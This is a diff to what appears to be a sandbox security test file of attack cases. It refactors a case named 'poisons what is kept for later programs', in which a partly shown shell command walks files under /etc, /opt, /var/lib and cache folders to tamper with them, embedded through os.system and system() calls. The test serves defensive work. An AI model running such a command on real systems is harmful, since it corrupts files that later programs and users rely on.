@@ -3,7 +3,7 @@
 
 from __future__ import annotations
 
-from attack_cases import Case, cpp, java, javascript, python
+from attack_cases import Case, by_shell, cpp, java, javascript, python
 
 _POISON = (
     "for file in $(find /flextune /tmp/cache /etc /opt /var/lib -type f 2>/dev/null); do "
@@ -156,11 +156,6 @@ CASES = (
         name="poisons what is kept for later programs",
         outcome="passed",
         evidence="cache",
-        programs={
-            "py": python(f"os.system({_POISON!r})"),
-            "java": java(f'shell("{_POISON}");'),
-            "js": javascript(f'shell("{_POISON}");'),
-            "cpp": cpp(f'if (system("{_POISON}") < 0) return 0;'),
-        },
+        programs=by_shell(_POISON),
     ),
 )
